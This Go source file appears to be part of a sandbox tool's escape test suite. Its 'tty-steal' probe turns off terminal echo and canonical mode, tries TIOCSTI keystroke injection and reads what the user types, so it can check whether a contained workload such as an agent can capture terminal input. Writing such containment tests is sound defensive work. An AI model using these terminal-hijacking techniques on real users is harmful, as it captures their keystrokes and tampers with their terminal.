package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"slices"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Attacks on the user's terminal when only some of the workload's standard
// descriptors are terminals (`echo task | corral run -- agent` on an
// interactive shell). A descriptor open on the user's terminal, even one
// meant only for output, is the whole terminal: it reads what the user
// types, and its settings (echo, canonical mode) outlive the workload.

func init() {
	attacks["tty-steal"] = cmdTTYSteal
}

// cmdTTYSteal: tty-steal SECRET SECONDS. It reports what it sees on stdin
// when that is not a terminal (so the test can check redirections still
// work), writes "fdN-hello" on fds 1 and 2, and on every one of fds 0–2
// that is a terminal switches echo and canonical mode off and tries
// TIOCSTI. It then prints READY and reads those terminals for SECONDS; the
// test types SECRET on the user's terminal meanwhile. Reading SECRET is an
// escape.
func cmdTTYSteal(args []string) int {
	need(args, 2, "tty-steal SECRET SECONDS")
	secret := args[0]
	secs, err := strconv.ParseFloat(args[1], 64)
	if err != nil {
		fmt.Fprintln(os.Stderr, "tty-steal: bad SECONDS:", err)
		return exitUsage
	}
	if _, err := unix.IoctlGetTermios(0, unix.TCGETS); err != nil {
		in, err := io.ReadAll(os.Stdin)
		fmt.Printf("stdin=%q err=%v\n", in, err)
	}
	var ttys []unix.PollFd
	for fd := 0; fd <= 2; fd++ {
		t, err := unix.IoctlGetTermios(fd, unix.TCGETS)
		if err != nil {
			fmt.Printf("fd%d: not a terminal (%s)\n", fd, errno(err))
			continue
		}
		ttys = append(ttys, unix.PollFd{Fd: int32(fd), Events: unix.POLLIN})
		t.Lflag &^= unix.ECHO | unix.ICANON
		t.Cc[unix.VMIN], t.Cc[unix.VTIME] = 1, 0
		fmt.Printf("fd%d: terminal; echo and canonical mode off: %v\n", fd, errOK(unix.IoctlSetTermios(fd, unix.TCSETS, t)))
		c := byte('#')
		_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
		fmt.Printf("fd%d: TIOCSTI: %v\n", fd, errOK(errnoErr(e)))
	}
	for fd := 1; fd <= 2; fd++ {
		_, _ = unix.Write(fd, []byte(fmt.Sprintf("fd%d-hello\n", fd)))
	}
	fmt.Println("READY")

	var got strings.Builder
	deadline := time.Now().Add(time.Duration(secs * float64(time.Second)))
	for len(ttys) > 0 {
		left := time.Until(deadline)
		if left <= 0 {
			break
		}
		n, err := unix.Poll(ttys, int(left.Milliseconds())+1)
		if errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil || n == 0 {
			break
		}
		// One read per poll: fds 1 and 2 are often the same terminal, and
		// once one read drained it the other would block.
		i := slices.IndexFunc(ttys, func(p unix.PollFd) bool { return p.Revents != 0 })
		if i < 0 {
			continue
		}
		buf := make([]byte, 256)
		m, err := unix.Read(int(ttys[i].Fd), buf)
		if m > 0 {
			got.Write(buf[:m])
			fmt.Printf("fd%d: read %q\n", ttys[i].Fd, buf[:m])
		}
		if m <= 0 || err != nil {
			// A hung-up or failing descriptor would make poll spin.
			ttys = slices.Delete(ttys, i, i+1)
		}
		if strings.Contains(got.String(), secret) {
			return escaped("read what the user typed on the terminal: %q", got.String())
		}
	}
	return blocked("nothing the user typed reached the workload in %vs (read %q)", args[1], got.String())
}

func errOK(err error) string {
	if err != nil {
		return errno(err)
	}
	return "ok"
}

func errnoErr(e unix.Errno) error {
	if e != 0 {
		return e
	}
	return nil
}
